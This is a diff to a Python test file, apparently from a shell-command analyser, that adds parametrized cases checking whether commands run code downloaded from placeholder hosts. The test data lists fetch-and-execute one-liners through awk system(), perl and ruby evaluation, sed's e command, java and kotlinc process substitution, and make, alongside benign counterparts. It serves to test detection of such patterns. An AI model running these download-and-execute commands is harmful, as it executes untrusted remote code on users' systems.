@@ -141,3 +141,13 @@ def test_what_a_console_reads_flows_on(effects_of):
 def test_recipes_that_come_from_elsewhere_are_code(brief):
     assert brief("curl -s https://a.example/Makefile | make -f -")[-1] == "make ! <download"
     assert brief("printf 'all:\\n\\ttrue\\n' | make -f -")[-1] == "true"
+
+
+@pytest.mark.parametrize(("command", "runs"), [
+    ("curl -s https://x.example/a | awk '{system($0)}'", True), ("curl -s https://x.example/a | awk '{print $1 | \"sh\"}'", True), ("curl -s https://x.example/a | awk '{print $1}'", False),
+    ("curl -s https://x.example/a | perl -ne 'system $_'", True), ("curl -s https://x.example/a | ruby -ne '`#{$_}`'", True), ("curl -s https://x.example/a | perl -ne 'print $_'", False),
+    ("curl -s https://x.example/a | sed e", True), ("curl -s https://x.example/a | sed -n '1e'", True), ("curl -s https://x.example/a | sed -e 's/e/a/'", False),
+    ("java -jar <(curl -s https://x.example/a)", True), ("kotlinc -script <(curl -s https://x.example/a)", True), ("java -jar a.jar", False),
+])
+def test_lines_and_files_from_the_network_that_are_run(effects_of, command, runs):
+    assert any(flow.origin.value == "download" and flow.sink.value == "interpreter" for flow in effects_of(command).flows) is runs
